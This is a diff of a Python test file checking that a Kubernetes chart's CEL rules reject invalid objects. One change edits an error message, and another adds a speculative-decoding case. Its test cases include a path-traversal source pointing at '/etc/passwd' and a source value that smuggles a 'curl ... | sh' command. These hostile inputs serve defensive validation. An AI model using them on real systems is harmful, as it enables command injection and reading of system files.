@@ -102,7 +102,8 @@ def test_chart_rbac_is_namespaced_when_watch_namespaces_is_set(cluster):
 def test_invalid_objects_rejected_by_cel(cluster, namespace, chart):
     cases = [({"autoscaling": {"scaleToZeroIdleSeconds": 1}}, "scaleToZeroIdleSeconds"), ({"minReplicas": 3, "maxReplicas": 2}, "minReplicas must be <= maxReplicas"),
              ({"replicas": 9}, "replicas must be within"), ({"engineSettings": {"tensorParallelSize": 0}}, "tensorParallelSize"),
-             ({"engineSettings": {"speculative": {"method": "draft"}}}, "needs draftModel"),
+             ({"engineSettings": {"speculative": {"method": "draft"}}}, "need draftModel"),
+             ({"engineSettings": {"speculative": {"method": "eagle3"}}}, "need draftModel"),
              ({"model": {"source": "ftp://nope"}}, "source"),
              ({"model": {"source": "pvc://claim/../../../etc/passwd"}}, "'..' are not allowed"),
              ({"model": {"source": 'hf://org/repo/x";curl${IFS}x|sh;echo${IFS}"\'.gguf'}}, "source"),
